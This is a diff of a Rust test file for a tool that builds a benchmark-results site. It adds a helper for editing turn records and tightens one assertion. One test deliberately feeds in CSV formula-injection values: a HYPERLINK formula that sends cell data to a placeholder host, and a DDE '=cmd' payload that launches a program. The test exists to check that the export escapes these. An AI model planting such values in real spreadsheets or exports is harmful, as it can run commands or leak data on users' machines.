@@ -561,16 +561,12 @@ fn the_index_says_when_a_best_cell_had_failed_turns() {
             "{criterion}: {n} failed: {row}"
         );
         if n > 1 {
-            assert!(
-                cell.contains(&format!(", {n} failed turns)"))
-                    || cell.contains(&format!(", {n} failed turns<")),
-                "{row}"
-            );
+            assert!(cell.contains(&format!(", {n} failed turns<")), "{row}");
         }
     }
     assert!(
-        agg.cells.iter().any(|c| c.summary.failed_turns > 0),
-        "the fixture has failures"
+        failed_of("output_tok_per_s") > 0 || failed_of("avg_traj_time_s") > 0,
+        "the fixture's best cells had failures: {row}"
     );
 }
 
@@ -579,26 +575,18 @@ fn csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
     let tmp = tempfile::tempdir().unwrap();
     let run = write_run(tmp.path(), "f", &tiny_spec("=1+1"));
     // A dataset's trajectory ids and a server's error as a hostile source would write them.
-    let turns_path = run.join("turns.jsonl");
     let ids = [
         "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
         "@SUM(1+1)",
         "-2+3",
         "plain-id",
     ];
-    let lines: Vec<String> = std::fs::read_to_string(&turns_path)
-        .unwrap()
-        .lines()
-        .map(|l| {
-            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
-            r.traj_id = ids[r.traj as usize].to_string();
-            if r.traj == 1 {
-                r.error = Some("=cmd|' /C calc'!A0".into());
-            }
-            serde_json::to_string(&r).unwrap()
-        })
-        .collect();
-    std::fs::write(&turns_path, lines.join("\n") + "\n").unwrap();
+    edit_turns(&run, |_, r| {
+        r.traj_id = ids[r.traj as usize].to_string();
+        if r.traj == 1 {
+            r.error = Some("=cmd|' /C calc'!A0".into());
+        }
+    });
     let site = tmp.path().join("site");
     build(std::slice::from_ref(&run), &site, None);
     for file in ["data/turns.csv", "data/summary.csv"] {
@@ -637,22 +625,13 @@ fn csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
 fn token_counts_past_u64_build_a_site_without_wrapping_or_panicking() {
     let tmp = tempfile::tempdir().unwrap();
     let run = write_run(tmp.path(), "big", &tiny_spec("big"));
-    let turns_path = run.join("turns.jsonl");
-    let lines: Vec<String> = std::fs::read_to_string(&turns_path)
-        .unwrap()
-        .lines()
-        .enumerate()
-        .map(|(i, l)| {
-            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
-            if i < 3 {
-                r.prompt_tokens = Some(u64::MAX);
-                r.cached_tokens = Some(u64::MAX);
-                r.completion_tokens = Some(u64::MAX);
-            }
-            serde_json::to_string(&r).unwrap()
-        })
-        .collect();
-    std::fs::write(&turns_path, lines.join("\n") + "\n").unwrap();
+    edit_turns(&run, |i, r| {
+        if i < 3 {
+            r.prompt_tokens = Some(u64::MAX);
+            r.cached_tokens = Some(u64::MAX);
+            r.completion_tokens = Some(u64::MAX);
+        }
+    });
     let site = tmp.path().join("site");
     build(std::slice::from_ref(&run), &site, None);
     let summary = read(&site.join("data/summary.csv"));
@@ -714,6 +693,22 @@ fn a_build_never_overwrites_its_own_inputs() {
     )
     .unwrap();
     assert!(ok.is_file());
+}
+
+/// Rewrite a run's `turns.jsonl` record by record (index in the file, record).
+fn edit_turns(run: &Path, mut edit: impl FnMut(usize, &mut turnbench_schema::TurnRecord)) {
+    let path = run.join("turns.jsonl");
+    let lines: Vec<String> = std::fs::read_to_string(&path)
+        .unwrap()
+        .lines()
+        .enumerate()
+        .map(|(i, l)| {
+            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
+            edit(i, &mut r);
+            serde_json::to_string(&r).unwrap()
+        })
+        .collect();
+    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
 }
 
 fn copy_dir(from: &Path, to: &Path) {
